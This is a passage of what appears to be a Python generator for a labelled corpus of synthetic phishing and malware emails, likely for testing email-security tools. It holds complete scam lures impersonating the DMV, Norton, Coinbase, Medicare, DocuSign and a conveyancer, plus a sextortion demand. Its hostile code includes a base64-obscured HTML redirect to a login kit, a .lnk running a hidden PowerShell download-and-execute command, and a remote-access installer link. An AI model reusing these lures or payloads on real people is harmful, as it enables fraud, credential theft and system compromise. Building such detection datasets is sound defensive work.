    frm=("California DMV", "notice@dmv-ca-gov-services.com"), to=("Carlos Mendoza", "cmendoza_la@yahoo.com"),
    subj="Notice of outstanding traffic violation - payment due", date="2025-06-18 10:40:02 -0700",
    ip="31.222.238.71", helo="mail.dmv-ca-gov-services.com", auth=OWN, dkim=("dmv-ca-gov-services.com", "default"),
    body=related(
        '<html><body style="font-family:Arial;font-size:14px;color:#222"><div style="max-width:560px;margin:auto;border:1px solid #ccc;padding:20px">'
        '<h2 style="color:#034ea2">California Department of Motor Vehicles</h2>'
        '<p><b>Notice of Outstanding Traffic Violation</b><br>Citation No.: CA-TV-5520194<br>Amount due: <b>$24.50</b></p>'
        '<p>Our records show an unpaid traffic violation linked to your vehicle. If payment is not received by '
        '<b>June 20, 2025</b>, your vehicle registration and driving privileges will be suspended and the case referred '
        'to collections.</p><p>Scan the QR code below with your phone camera to pay securely:</p>'
        '<p><img src="cid:qr-pay-5520194" width="180" height="180" alt="Scan to pay"></p>'
        '<p style="font-size:11px;color:#777">State of California Department of Motor Vehicles</p></div></body></html>',
        [inline_png("qr.png", files.qr_png(DMV_URL), "qr-pay-5520194")],
        text="California Department of Motor Vehicles\n\nNotice of Outstanding Traffic Violation\nCitation No.: CA-TV-5520194\n"
             "Amount due: $24.50\n\nScan the QR code in this email with your phone camera to pay securely.\n",
        style="php"))

add(slug="norton-invoice-pdf-callback", cat="phishing", kind="phish",
    desc="Norton 'auto-renewal $399.99' callback scam from a Gmail account named 'Norton LifeLock': short body and a PDF "
         "invoice with only a phone number to call to 'cancel' — no links anywhere.",
    frm=("NortonLifeLock", "nortonbilling.team.2025@gmail.com"), to=("Gloria Stevens", "gloriastevens@aol.com"),
    subj="Invoice NLK-88210471 - Your subscription has been renewed", date="2025-02-03 09:26:41 -0600", **gm(50),
    body=mixed(gmail_alt("Dear Customer,\n\nThank you for renewing your Norton 360 Deluxe subscription. The amount of $399.99 "
                         "has been charged to your account. Your invoice is attached.\n\nIf you wish to cancel and request a "
                         "refund, call our billing desk at +1 (888) 619-4427 within 48 hours.\n\nRegards,\nNorton Billing Team"),
               attachment("application/pdf", "Invoice_NLK-88210471.pdf", files.pdf(
                   ["NortonLifeLock Inc. - INVOICE", "", "Invoice No: NLK-88210471      Date: 02/03/2025",
                    "Bill to: Gloria Stevens", "", "Norton 360 Deluxe - 5 Devices - 3 Years        $399.99",
                    "Payment method: Auto-debit", "Total charged: $399.99", "",
                    "Not you? To cancel and get a refund call +1 (888) 619-4427", "Billing hours: Mon-Sat 9 AM - 7 PM EST"],
                   title="Invoice NLK-88210471")), style="gmail"))

add(slug="mcafee-google-docs-comment", cat="phishing", kind="phish",
    desc="Genuine Google Docs comment notification (docs.google.com, authenticated by Google) abused to @-mention the "
         "victim with a fake $489.99 McAfee renewal and a callback number; the only link is the real Google document.",
    frm=("McAfee Billing (Google Docs)", "comments-noreply@docs.google.com"), to=("Kelly Brennan", "kelly.brennan1980@gmail.com"),
    subj="Invoice MCF-30174 - McAfee Total Protection renewal", date="2024-10-29 13:54:07 -0700",
    ip="209.85.220.69", helo="mail-sor-f69.google.com", mfrom="3Jx8hZwsKCk4cqfdmor-ijmxk.gsrchmbh.ngkzomz.gu@docos.bounces.google.com",
    auth=PASS, dkim=("docs.google.com", "20230601"), reply_to="McAfee Billing <mcafee.billing.dept.us@gmail.com>",
    body=card_alt(
        "Google Docs", "#1a73e8", "McAfee Billing mentioned you in a comment",
        ["<b>McAfee Billing</b> mentioned you in a comment in the following document:<br><b>Invoice MCF-30174</b>",
         "<i>@kelly.brennan1980@gmail.com Your McAfee Total Protection plan has been renewed for $489.99 today. If you did "
         "not authorize this charge please call McAfee Billing at +1 (855) 439-2208 to cancel and receive a refund.</i>"],
        ("Open", "https://docs.google.com/document/d/1qR7vK2mZp9XyT4sLw8NcB3hJ0fDgU5aEo6iVn1Ft2Ys/edit?disco=AAABXk3pQ9w&usp=comment_email_document&ts=67214f2b"),
        "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received this email because you "
        "are mentioned in this thread.", style="gmail"))

add(slug="coinbase-withdrawal-seed-phrase", cat="phishing", kind="phish",
    desc="Coinbase 'withdrawal of 0.4 BTC requested, secure your wallet' lure from a lookalike custody domain (own "
         "SPF/DKIM); the page asks the victim to 'migrate' to a self-custody vault by entering their recovery phrase.",
    frm=("Coinbase", "security@coinbase-securecustody.com"), to=("Tyler Morgan", "tylermorgan.eth@gmail.com"),
    subj="Withdrawal request: 0.41 BTC to bc1q...7xk2", date="2025-05-21 04:38:15 +0000",
    ip="146.70.183.26", helo="mail.coinbase-securecustody.com", auth=OWN, dkim=("coinbase-securecustody.com", "cb"),
    body=card_alt(
        "coinbase", "#0052ff", "Withdrawal request received",
        ["We received a request to withdraw <b>0.41 BTC</b> (≈ $42,180.55) to <b>bc1qv4xk8ae2mm0d9w3p5tq6lzgj7yrf7xk2</b>.",
         "If you did not make this request, your account may be compromised. Cancel the withdrawal and move your assets "
         "to a protected Coinbase Vault by verifying your wallet recovery phrase.", "Pending withdrawals are released "
         "automatically after 2 hours."],
        ("Cancel withdrawal", "https://coinbase-securecustody.com/vault/recovery?case=CB-22917&lang=en"),
        "Coinbase, Inc. 248 3rd St #434, Oakland, CA 94607", style="sfmc"))

add(slug="metamask-kyc-webflow", cat="phishing", kind="phish",
    desc="MetaMask 'mandatory wallet verification / KYC' lure sent by PHPMailer from a lookalike domain (own SPF/DKIM) "
         "linking to a webflow.io page that requests the 12-word secret recovery phrase.",
    frm=("MetaMask", "support@metamask-walletupdate.io"), to=("Jordan Ellis", "jordan.ellis91@outlook.com"),
    subj="Action required: verify your MetaMask wallet before 31 Oct", date="2024-10-27 22:15:49 +0000",
    ip="194.87.216.140", helo="mail.metamask-walletupdate.io", auth=OWN, dkim=("metamask-walletupdate.io", "default"),
    hdrs=PHP, body=card_alt(
        "METAMASK", "#f6851b", "Wallet verification required",
        ["Dear MetaMask user,", "In accordance with new regulatory requirements, all wallets must complete verification "
         "before <b>31 October 2024</b>. Unverified wallets will be restricted and assets may become inaccessible.",
         "Verification takes less than 2 minutes."],
        ("Verify my wallet", "https://metamask-kyc-verify.webflow.io/verify?wallet=0x7a3f...c91d"),
        "© 2024 MetaMask · A ConsenSys Formation", style="php"))

TW_DESC = ("Your Trust Wallet requires a mandatory security re-verification after the latest app update. Wallets not "
           "re-verified will be suspended. Complete it here: https://trust-wallet-secure.framer.website/restore")
add(slug="trustwallet-calendar-invite", cat="phishing", kind="phish",
    desc="Google Calendar invitation sent by a Gmail account ('Trust Wallet Support') so it lands as an event; the event "
         "description carries the framer.website link that harvests the wallet's recovery phrase.",
    frm=("Trust Wallet Support", "trustwallet.security.team@gmail.com"), to=("Marcus Lee", "marcus.lee.sf@gmail.com"),
    subj="Invitation: Trust Wallet: mandatory wallet re-verification @ Fri 7 Mar 2025 10am - 10:30am (PST) (marcus.lee.sf@gmail.com)",
    date="2025-03-05 17:02:11 -0800", **gm(46),
    hdrs=["Sender: Google Calendar <calendar-notification@google.com>"],
    body=mixed(multi("alternative", [
        plain("Trust Wallet: mandatory wallet re-verification\nFriday 7 Mar 2025 10am - 10:30am (Pacific Time - Los Angeles)\n\n"
              + TW_DESC + "\n\nOrganiser\ntrustwallet.security.team@gmail.com\n\nReply for marcus.lee.sf@gmail.com\n\n"
              "Invitation from Google Calendar: https://calendar.google.com/calendar/\n"),
        hpart(card("Trust Wallet", "#3375bb", "Trust Wallet: mandatory wallet re-verification",
                   ["Friday 7 Mar 2025 ⋅ 10am – 10:30am (Pacific Time - Los Angeles)", TW_DESC.replace(
                       "https://trust-wallet-secure.framer.website/restore",
                       '<a href="https://www.google.com/url?q=https://trust-wallet-secure.framer.website/restore&sa=D&source=calendar&usd=2&usg=AOvVaw3kQ8c">'
                       'https://trust-wallet-secure.framer.website/restore</a>')],
                   ("Yes", "https://calendar.google.com/calendar/event?action=RESPOND&eid=NXJrOWM4Z3Y&rst=1&tok=MjkjdHJ1c3R3YWxsZXQ"),
                   "Invitation from Google Calendar")),
        Leaf("text/calendar", ics("5rk9c8gv3m1t7q2s@google.com", "trustwallet.security.team@gmail.com", "marcus.lee.sf@gmail.com",
                                  "Trust Wallet: mandatory wallet re-verification", "20250307T180000Z", TW_DESC).replace(b"\r\n", b"\n"),
             "7bit", '; charset="UTF-8"; method=REQUEST')], "gmail"),
        attachment("application/ics", "invite.ics", ics("5rk9c8gv3m1t7q2s@google.com", "trustwallet.security.team@gmail.com",
                                                        "marcus.lee.sf@gmail.com", "Trust Wallet: mandatory wallet re-verification",
                                                        "20250307T180000Z", TW_DESC)), style="gmail"))

add(slug="microsoft-unusual-signin-mailto", cat="phishing", kind="phish",
    desc="Microsoft account 'unusual sign-in activity from Russia' lure from a lookalike accountprotection domain (own "
         "SPF/DKIM) with no web link: 'Report the user' is a mailto: to an outlook.com address that replies with follow-up scams.",
    frm=("Microsoft account team", "no-reply@accountprotection-msft.com"), to=("Helen Carter", "helen.carter62@outlook.com"),
    subj="Microsoft account unusual signin activity", date="2024-07-30 02:44:09 +0000",
    ip="89.117.72.18", helo="mail.accountprotection-msft.com", auth=OWN, dkim=("accountprotection-msft.com", "k1"),
    body=card_alt(
        "Microsoft", "#0078d4", "Unusual sign-in activity",
        ["We detected something unusual about a recent sign-in to the Microsoft account he*****@outlook.com.",
         "<b>Sign-in details</b><br>Country/region: Russia/Moscow<br>IP address: 103.225.77.255<br>Date: 07/30/2024 02:31 AM (GMT)"
         "<br>Platform: Kali Linux<br>Browser: Firefox",
         "If this wasn't you, please report the user. If you're not sure, someone may be using your account."],
        ("Report The User", "mailto:msupport.security.team@outlook.com?subject=Report%20The%20User&body=Report%20The%20User"),
        "Thanks,<br>The Microsoft account team", style="php"))

OUTLOOK_REDIRECT = """<html><head><meta charset="utf-8"><title>Outlook Web Access - Mailbox Storage</title></head>
<body><p style="font-family:Segoe UI,Arial">Loading your mailbox, please wait...</p>
<script>
var _e = "janetbrooks55@hotmail.com";
var _u = atob("%s");
setTimeout(function(){ window.location.replace(_u + encodeURIComponent(_e)); }, 800);
</script></body></html>
""" % base64.b64encode(b"https://outlook-storage-upgrade.b-cdn.net/owa/auth/?login=").decode()
add(slug="outlook-storage-html-redirect", cat="phishing", kind="phish",
    desc="'Microsoft Outlook' storage-quota warning sent from a compromised plumbing company's GoDaddy mailbox "
         "(authenticated for that domain), with an .htm attachment whose script redirects to a b-cdn.net Outlook login kit "
         "with the victim's address pre-filled.",
    frm=("Microsoft Outlook", "office@hollisterplumbing.net"), to=("Janet Brooks", "janetbrooks55@hotmail.com"),
    subj="Mailbox storage 99% full - messages on hold", date="2025-04-14 15:07:22 -0500",
    ip="173.201.192.117", helo="p3plsmtpout002.prod.phx3.secureserver.net", rdns="p3plsmtpout002.prod.phx3.secureserver.net",
    auth=("pass", "pass", "none"), dkim=("hollisterplumbing.net", "default"),
    body=mixed(alt("Outlook\n\nYour mailbox has exceeded the storage limit (99.6 GB of 100 GB). 14 incoming messages are on hold "
                   "and will be deleted.\n\nOpen the attached storage report to release your messages and upgrade your "
                   "quota at no cost.\n\nMicrosoft Outlook Team\n",
                   "<html><body style=\"font-family:Segoe UI,Arial;font-size:14px\"><p><b style=\"color:#0078d4;font-size:20px\">"
                   "Outlook</b></p><p>Your mailbox has exceeded the storage limit (<b>99.6 GB of 100 GB</b>). 14 incoming messages "
                   "are on hold and will be deleted.</p><p>Open the attached storage report to release your messages and upgrade "
                   "your quota at no cost.</p><p>Microsoft Outlook Team</p></body></html>", "php"),
               attachment("text/html", "Storage_Report_janetbrooks55.htm", OUTLOOK_REDIRECT.encode()), style="php"))

add(slug="facebook-page-violation-notion", cat="phishing", kind="phish",
    desc="'Meta for Business' page-violation / permanent-deletion notice from a lookalike meta-support domain (own "
         "SPF/DKIM) with an 'Appeal' link to a notion.site page that leads to a Facebook login and 2FA harvester.",
    frm=("Meta for Business", "appeals@meta-pagesupport.com"), to=("Rachel Adams", "rachel.adams.bakes@gmail.com"),
    subj="Your page has been scheduled for permanent deletion", date="2025-01-15 20:31:06 +0000",
    ip="188.114.12.77", helo="mail.meta-pagesupport.com", auth=OWN, dkim=("meta-pagesupport.com", "google"),
    body=card_alt(
        "Meta", "#0866ff", "Your page has been flagged",
        ["Hi Rachel,", "Your Facebook page <b>Rachel's Home Bakes</b> has been reported for infringing the intellectual "
         "property rights of another party (case #882615037742109).", "If you believe this is a mistake you can submit an "
         "appeal within 24 hours. Otherwise your page will be permanently deleted according to our Community Standards."],
        ("Submit Appeal", "https://meta-support-center.notion.site/Appeal-Page-Violation-4c71a9e2d8b34f5fa0e1c7b92d6f3a18"),
        "© Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025", style="sfmc"))

add(slug="costco-reward-survey-gcs", cat="phishing", kind="phish",
    desc="Costco 'member loyalty reward - complete a survey for a free pressure cooker' lure from a throwaway bulk domain "
         "(own SPF/DKIM) with a storage.googleapis.com page that ends in a paid 'shipping' subscription trap.",
    frm=("Costco Member Rewards", "rewards@memberperks-daily.com"), to=("Sandra Lopez", "sandra_lopez_az@yahoo.com"),
    subj="Sandra, your Costco loyalty reward is waiting (expires today)", date="2024-09-06 13:55:38 -0700",
    ip="204.44.94.216", helo="mta7.memberperks-daily.com", auth=OWN, dkim=("memberperks-daily.com", "s1"),
    hdrs=["List-Unsubscribe: <https://memberperks-daily.com/u/?e=c2FuZHJhX2xvcGV6X2F6QHlhaG9vLmNvbQ>"],
    body=card_alt(
        "COSTCO", "#e31837", "Congratulations! You have been selected",
        ["Dear Costco member,", "To thank you for your loyalty, you have been selected to receive an <b>Instant Pot Duo "
         "Plus 9-in-1</b>. Just answer 4 quick questions about your shopping experience.", "Only 3 rewards left. Offer "
         "expires today."],
        ("START SURVEY", "https://storage.googleapis.com/cstc-rwd-0906/index.html#/?e=sandra_lopez_az&c=US&sid=77319"),
        "You are receiving this because you subscribed to partner offers. Costco is not affiliated with this promotion.",
        style="php"))

add(slug="xfinity-bill-bing-redirect", cat="phishing", kind="phish",
    desc="Xfinity 'payment declined, service interruption' lure from a lookalike billing domain (own SPF/DKIM) whose link "
         "is a bing.com/ck/a click-redirect wrapping the card-collection page.",
    frm=("Xfinity", "billing@xfinity-billingcenter.com"), to=("Michael Turner", "mturner1972@comcast.net"),
    subj="Your Xfinity payment was declined - avoid service interruption", date="2025-02-19 18:24:51 -0500",
    ip="107.175.66.149", helo="mail.xfinity-billingcenter.com", auth=OWN, dkim=("xfinity-billingcenter.com", "x1"),
    body=card_alt(
        "xfinity", "#6138f5", "We couldn't process your payment",
        ["Hello Michael,", "Your automatic payment of <b>$187.43</b> for account ending 4410 was declined by your bank.",
         "To avoid interruption of your Internet, TV and Voice services, please update your billing information by "
         "February 21."],
        ("Update payment", "https://www.bing.com/ck/a?!&&p=4b1e8d3f2a7c9e60JmltdHM9MTczOTkyMzIwMCZpZ3VpZD0xYzNl&ptn=3&ver=2&hsh=3"
                           "&fclid=1c3e7a20-bd44-6f1a-2e11-6b1cbc996e42&u=a1" + base64.urlsafe_b64encode(
                               b"https://xfinity-account-pay.com/billing/?acct=4410").decode().rstrip("=") + "&ntb=1"),
        "© 2025 Comcast. All rights reserved. Xfinity, 1701 JFK Blvd, Philadelphia, PA 19103", style="php"))

add(slug="cashapp-pending-fee", cat="phishing", kind="phish",
    desc="Cash App '$750 payment pending, pay $25 clearance fee to release' advance-fee lure from a Gmail account named "
         "'Cash App', linking to a lookalike claim page.",
    frm=("Cash App", "cashapp.payments.dept@gmail.com"), to=("Destiny Walker", "destinywalker22@icloud.com"),
    subj="You received $750.00 - pending approval", date="2024-06-14 11:12:27 -0500", **gm(52),
    body=gmail_alt("Cash App\n\nYou have received $750.00 from Jacob Hill.\nStatus: PENDING\n\nTo complete this payment, your "
                   "account must be upgraded to a business account. A one-time refundable clearance fee of $25.00 is "
                   "required to release the funds.\n\nClaim your payment: https://cashapp-transfer-pending.com/claim/?r=JH750&u=dw22\n\n"
                   "Cash App Support\nBlock, Inc. 1955 Broadway, Oakland, CA 94612"))

add(slug="medicare-card-callback", cat="phishing", kind="phish",
    desc="'Your new plastic Medicare card' notice from a lookalike medicare-services domain (own SPF/DKIM) asking the "
         "senior to call a number to 'activate' it, where the caller collects the Medicare number and SSN.",
    frm=("Medicare.gov", "cards@medicare-benefitservices.org"), to=("Dorothy Evans", "dorothyevans44@aol.com"),
    subj="Important: Your new Medicare card must be activated", date="2025-01-09 10:03:55 -0500",
    ip="45.61.137.229", helo="mail.medicare-benefitservices.org", auth=OWN, dkim=("medicare-benefitservices.org", "s1"),
    body=card_alt(
        "Medicare", "#0071bc", "Your new Medicare card is ready",
        ["Dear Beneficiary,", "As part of the 2025 Medicare update, paper cards are being replaced with new plastic cards "
         "with a security chip. Your existing card will stop working on <b>January 31, 2025</b>.", "To activate your new "
         "card and keep your benefits, call the Medicare Card Activation line at <b>1-877-402-5518</b> (TTY 711), "
         "Monday-Friday 8am-8pm. Have your current Medicare number and Social Security number ready."],
        None, "Paid for by the U.S. Department of Health &amp; Human Services.", style="sfmc"))

add(slug="student-loan-forgiveness-callback", cat="phishing", kind="phish",
    desc="'Final notice: student loan forgiveness approved' from a lookalike studentaid domain (own SPF/DKIM), plain "
         "text, urging a call to an enrollment line that sells fake forgiveness and takes the FSA ID.",
    frm=("Federal Student Aid Relief Center", "notices@studentaid-relief-center.com"), to=("Ashley Brown", "ashley.brown.tn@gmail.com"),
    subj="FINAL NOTICE: Your student loan forgiveness has been approved", date="2024-08-27 12:18:36 -0500",
    ip="192.236.161.84", helo="mx1.studentaid-relief-center.com", auth=OWN, dkim=("studentaid-relief-center.com", "mail"),
    body=plain("Ashley,\n\nUnder the new federal relief program your application for student loan forgiveness has been "
               "APPROVED. Your remaining balance of up to $20,000 may be discharged.\n\nTo complete enrollment you must "
               "speak with a relief specialist before August 30, 2024. Call 1-866-915-3027 (Monday-Saturday, 8am-9pm CT).\n\n"
               "Please have your FSA ID and loan servicer information ready. A one-time document preparation fee applies.\n\n"
               "Federal Student Aid Relief Center\nProcessing Department\n\nTo stop receiving notices reply STOP.\n"))

add(slug="sextortion-own-password-btc", cat="phishing", kind="phish",
    desc="Sextortion email spoofing the victim's own Gmail address (SPF softfail, DMARC fail under gmail.com's p=none), "
         "quoting a leaked old password and demanding $1,450 in Bitcoin to a given wallet; no links.",
    frm=("", "chris.palmer.1985@gmail.com"), to=("", "chris.palmer.1985@gmail.com"),
    subj="chris.palmer.1985 - Summer2019!", date="2024-11-11 03:41:18 +0000",
    ip="103.133.214.62", helo="[103.133.214.62]", rdns="unknown", mfrom="chris.palmer.1985@gmail.com",
    auth=("softfail", "none", "fail"), p="NONE",
    body=plain("Hi, this account is now hacked! Change the password right away.\n\nI know that Summer2019! is your password. "
               "You may not know me and you are probably wondering why you are getting this email, right?\n\nI placed a "
               "malware on the adult vids (porno) web-site and guess what, you visited this site to have fun (you know what "
               "I mean). While you were watching videos, your internet browser started out operating as a RDP (Remote "
               "control Desktop) having a keylogger which gave me accessibility to your screen and web cam.\n\n"
               "What exactly should you do? I require $1450 in Bitcoin to my wallet:\n\n"
               "bc1qz8n5l4w2x9c7v3m6t0ra5e8kdy2u4hq6fjz3p7\n\n(It is cAsE sensitive, so copy and paste it)\n\n"
               "You now have one day to make the payment. I have a unique pixel within this email message, and right now I "
               "know that you have read this email. If I do not receive the BitCoins, I will definitely send out your video "
               "recording to all of your contacts including relatives, coworkers, and so on.\n"))

add(slug="advance-fee-inheritance", cat="phishing", kind="phish",
    desc="Classic advance-fee inheritance letter from a Yahoo account posing as a UK solicitor, with a Reply-To on a "
         "different Gmail address; no links, asks for personal details to release a £6.8m estate.",
    frm=("Barrister James Whitmore", "jwhitmore.chambers@yahoo.com"), to=("Frank Miller", "frankmiller58@aol.com"),
    reply_to="jameswhitmore.esq.legal@gmail.com",
    subj="Re: Unclaimed Estate of Late Mr. Robert Miller (Ref: WM/ES/2291)", date="2024-10-08 06:12:44 +0000",
    ip="77.238.176.92", helo="sonic302-21.consmr.mail.ir2.yahoo.com", auth=PASS, dkim=("yahoo.com", "s2048"),
    hdrs=["X-Mailer: WebService/1.1.22645 YMailNorrin"],
    body=plain("Dear Frank Miller,\n\nI am Barrister James Whitmore, a solicitor at law and the personal attorney to the late "
               "Mr. Robert Miller, a national of your country, who used to work as a petroleum consultant in London. My "
               "client died along with his wife in a car accident in 2021 and left a fixed deposit of £6,800,000.00 GBP "
               "with a bank here in the United Kingdom.\n\nSince then I have made several enquiries to locate any of my "
               "late client's extended relatives, which proved unsuccessful. As you share the same surname, I seek your "
               "consent to present you as the next of kin so that the proceeds can be paid to you. We will share the fund "
               "50% for you and 40% for me, while 10% will be set aside for expenses.\n\nAll I require is your honest "
               "co-operation. This transaction is 100% risk free. Please reply with your full name, address, telephone "
               "number and occupation so I can begin the paperwork.\n\nYours faithfully,\nBarrister James Whitmore (Esq)\n"
               "Whitmore & Associates Chambers, London\n"))

add(slug="fake-job-remote-telegram", cat="phishing", kind="phish",
    desc="Fake remote-job offer ('product reviewer, $300-$800/day') from an outlook.com account claiming to be a "
         "recruiter for Amazon, steering the victim to WhatsApp/Telegram — the opening of a task/crypto job scam.",
    frm=("Amazon Recruitment - Olivia", "olivia.hr.recruit2025@outlook.com"), to=("Nicole Harris", "nicole.harris.mn@gmail.com"),
    subj="Part-time remote position - $300-$800 per day", date="2025-04-02 14:47:09 +0000", **ms_out(39),
    body=outlook_alt("Hello,\n\nI'm Olivia from the recruitment team. We received your resume from an online job site and "
                     "would like to offer you a flexible remote position as a Product Review Assistant.\n\n"
                     "- 60-90 minutes per day, work from your phone\n- Daily pay $300 - $800, paid the same day\n"
                     "- No experience required, training provided\n- Must be 22+ and located in the US\n\n"
                     "If you are interested, please contact our training supervisor on WhatsApp +1 (458) 219-7730 or "
                     "Telegram @AmzHR_Olivia and mention code AMZ-2207.\n\nBest regards,\nOlivia Bennett\nTalent Acquisition"))

add(slug="charity-wildfire-relief-crypto", cat="phishing", kind="phish",
    desc="Fake 'Red Cross LA Wildfire Emergency Fund' appeal from a lookalike relief domain (own SPF/DKIM) linking to a "
         "donation page that takes cards and crypto.",
    frm=("American Red Cross Relief", "donate@redcross-wildfire-relief.org"), to=("Steven Wright", "steven.wright.pdx@icloud.com"),
    subj="URGENT: Help families who lost everything in the LA wildfires", date="2025-01-12 16:30:14 -0800",
    ip="144.172.73.205", helo="mail.redcross-wildfire-relief.org", auth=OWN, dkim=("redcross-wildfire-relief.org", "default"),
    body=card_alt(
        "American Red Cross", "#ed1b2e", "Los Angeles families need you now",
        ["Dear Friend,", "The wildfires in Los Angeles have destroyed over 12,000 homes. Thousands of families have lost "
         "everything and are sleeping in shelters tonight.", "Every dollar you give before midnight will be <b>matched 2x</b> "
         "by our corporate partners. We accept card, PayPal and Bitcoin/USDT for instant relief."],
        ("DONATE NOW", "https://redcross-wildfire-relief.org/give/?amt=100&src=em0112"),
        "Red Cross Wildfire Relief Fund is a registered relief initiative. Donations may be tax-deductible.", style="sfmc"))

add(slug="pastor-gift-card-bec", cat="phishing", kind="phish",
    desc="Pastor-impersonation gift-card scam: a Gmail account with the pastor's name asks a congregant for $500 in Apple "
         "gift cards 'for cancer patients', photos of the codes to be sent back; no link, no attachment.",
    frm=("Pastor David Reynolds", "pastor.davidreynolds.office@gmail.com"), to=("Barbara Collins", "barbcollins1951@aol.com"),
    subj="Quick favor", date="2025-03-22 08:17:45 -0400", **gm(53),
    body=plain("Good morning Barbara,\n\nI need you to handle something for me discreetly today. I'm in a meeting and can't talk "
               "on the phone right now. I want to surprise some cancer patients at the hospital with gift cards as a blessing "
               "this weekend. Can you help me get 5 Apple gift cards of $100 each from any store around you? I will reimburse "
               "you on Sunday.\n\nOnce you get them, scratch the back and send me pictures of the codes here by email.\n\n"
               "God bless you,\nPastor David\n\nSent from my iPhone\n"))

add(slug="docusign-settlement-claim", cat="phishing", kind="phish",
    desc="Genuine DocuSign envelope (docusign.net, all checks pass) from a scammer's trial account: a 'class action "
         "settlement payout' to 'review and sign', where the signing page asks for bank login and SSN.",
    frm=("Settlement Administrator via Docusign", "dse_NA4@docusign.net"), to=("Paul Jenkins", "pauljenkins_oh@yahoo.com"),
    subj="Complete with Docusign: Settlement_Payout_Claim_Form_PJ-44192.pdf", date="2024-12-10 15:42:33 -0600",
    ip="64.207.219.71", helo="mailch.na4.docusign.net", mfrom="dse_NA4@docusign.net", auth=PASS, dkim=("docusign.net", "s1"),
    reply_to="Settlement Administrator <claims.settlement.admin@proton.me>",
    body=card_alt(
        "Docusign", "#4c00ff", "Settlement Administrator sent you a document to review and sign.",
        ["Please review and sign: <b>Settlement_Payout_Claim_Form_PJ-44192.pdf</b>",
         "<b>Settlement Administrator</b><br>claims.settlement.admin@proton.me<br><br>Dear Claimant, you have been "
         "identified as an eligible class member. Your estimated payout is $2,875.00. Please review and sign the claim "
         "form to receive your payment by direct deposit."],
        ("REVIEW DOCUMENT", "https://na4.docusign.net/Signing/EmailStart.aspx?a=4e1b7c92-33fa-4d6a-9e10-7b2c8d5f0a61&etti=24"
                            "&acct=8f3d2a10-5c7e-4b9a-a1f2-03d6e8b7c459&er=9b7a6c2d-1e4f-4a3b-8c5d-6e7f8a9b0c1d"),
        "Do Not Share This Email<br>This email contains a secure link to Docusign. Please do not share this email, link, or "
        "access code with others.", style="sfmc"))

add(slug="conveyancing-trust-account-change", cat="phishing", kind="phish",
    desc="Property-settlement payment diversion: a lookalike of the buyer's conveyancer (.com instead of .com.au, own "
         "SPF/DKIM) continues the settlement thread with 'updated trust account details' in a PDF letter; no link.",
    frm=("Karen Doyle | Brightline Conveyancing", "karen.doyle@brightline-conveyancing.com"),
    to=("Jessica Moore", "jessmoore@bigpond.com"),
    subj="RE: Settlement - 14 Banksia Crescent, Mango Hill - balance of funds", date="2025-08-13 09:54:10 +1000",
    ip="103.224.182.240", helo="mail.brightline-conveyancing.com", auth=OWN, dkim=("brightline-conveyancing.com", "default"),
    hdrs=["In-Reply-To: <SY4PR01MB77302B1C9E@SY4PR01MB7730.ausprd01.prod.outlook.com>",
          "References: <SY4PR01MB77302B1C9E@SY4PR01MB7730.ausprd01.prod.outlook.com>",
          "Thread-Topic: Settlement - 14 Banksia Crescent, Mango Hill - balance of funds"],
    body=mixed(outlook_alt(
        "Hi Jessica,\n\nThanks for confirming the settlement date of Friday 15 August.\n\nPlease note our trust account "
        "details have changed as our previous account is under audit. Please transfer the balance of $68,450.00 to the "
        "updated account in the attached letter, not the details in our earlier correspondence. Please do not call the "
        "office to confirm as our phone lines are being upgraded this week - email me directly.\n\nKind regards,\n\n"
        "Karen Doyle\nSenior Conveyancer | Brightline Conveyancing\n\n-----Original Message-----\nFrom: Jessica Moore "
        "<jessmoore@bigpond.com>\nSent: Tuesday, 12 August 2025 4:41 PM\nSubject: Settlement - 14 Banksia Crescent, "
        "Mango Hill - balance of funds\n\nHi Karen, can you confirm the final amount we need to transfer before Friday?"),
        attachment("application/pdf", "Brightline_Trust_Account_Update.pdf", files.pdf(
            ["BRIGHTLINE CONVEYANCING PTY LTD", "Trust Account Notification - 13/08/2025", "",
             "Matter: 14 Banksia Crescent, Mango Hill QLD 4509", "Purchaser: J. Moore", "",
             "Account name: Brightline Conveyancing Trust", "BSB: 084-034   Account: 51 772 9035",
             "Amount: $68,450.00   Reference: BANKSIA14", "", "Please disregard any earlier account details."],
            title="Trust Account Update")), style="outlook"))

# ---- malware (4)

add(slug="dhl-customs-iso-lnk", cat="malware", kind="phish",
    desc="DHL 'customs documents for your shipment' from a lookalike domain (own SPF/DKIM) with an ISO disc image holding "
         "a .lnk that runs a PowerShell downloader — the classic disc-image dropper.",
    frm=("DHL Express", "customs@dhl-expressdocs.com"), to=("Oliver Grant", "olivergrant77@yahoo.co.uk"),
    subj="DHL Express - Customs documents required for shipment 4471930265", date="2024-06-25 08:09:17 +0100",
    ip="213.232.235.40", helo="mail.dhl-expressdocs.com", auth=OWN, dkim=("dhl-expressdocs.com", "dkim"),
    body=mixed(card_alt(
        "DHL", "#d40511", "Customs clearance required",
        ["Dear Customer,", "Your shipment <b>4471930265</b> is held at customs. Please review the attached commercial "
         "invoice and airway bill and confirm the details so the shipment can be released.", "Open the attached document "
         "on a Windows computer."], None, "DHL International (UK) Limited", style="php"),
        attachment("application/x-iso9660-image", "DHL_AWB_4471930265.iso", files.iso_image([
            ("DHL_AWB_4471930265.pdf.lnk", files.lnk_shortcut(
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                "-w hidden -ep bypass -c \"iwr https://dhl-expressdocs.com/cdn/awb.ps1 -UseBasicParsing | iex\""))],
            "DHL_AWB")), style="php"))

add(slug="ssa-statement-screenconnect", cat="malware", kind="phish",
    desc="'Social Security Administration - your statement is ready' from a lookalike ssa domain (own SPF/DKIM) whose "
         "download link fetches a ScreenConnect client installer from an attacker relay, giving remote control of the PC.",
    frm=("Social Security Administration", "statements@ssa-gov-online.com"), to=("Richard Allen", "richard.allen1950@gmail.com"),
    subj="Your Social Security Statement is ready to download", date="2025-05-06 09:33:48 -0400",
    ip="91.92.243.118", helo="mail.ssa-gov-online.com", auth=OWN, dkim=("ssa-gov-online.com", "s1"),
    body=card_alt(
        "Social Security", "#112e51", "Your Social Security Statement is available",
        ["Dear Beneficiary,", "Your 2025 Social Security Statement is now available. Please download and review it to verify "
         "your earnings record and estimated benefits.", "The statement must be opened on a Windows computer."],
        ("Download Statement", "https://ssa-gov-online.com/Statement/download?f=SSA_Statement_2025.ClientSetup.exe&e=Access&y=Guest"
                               "&h=relay.ssa-gov-online.com&p=8041&k=BgIAAACkAABSU0ExAAgAAAEAAQ"),
